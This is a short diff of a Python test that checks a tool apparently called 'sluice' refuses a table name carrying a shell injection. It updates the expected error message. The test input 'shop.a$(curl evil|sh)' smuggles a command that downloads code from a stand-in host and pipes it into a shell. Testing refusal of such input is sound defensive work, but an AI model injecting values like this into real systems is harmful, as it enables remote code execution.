@@ -113,7 +113,7 @@ def test_the_command_for_a_new_base_names_the_table_alone() -> None:
     with pytest.raises(ConfigError) as refused:
         select_failed_rows(replace(IDS, name="shop.a$(curl evil|sh)"), [], 9)
 
-    assert str(refused.value).endswith("sluice bootstrap 'shop.a$(curl evil|sh)'")
+    assert str(refused.value).endswith("`sluice bootstrap 'shop.a$(curl evil|sh)' --reason ...`")
 
 
 def refusal(columns: list[Column], *values: str) -> str:
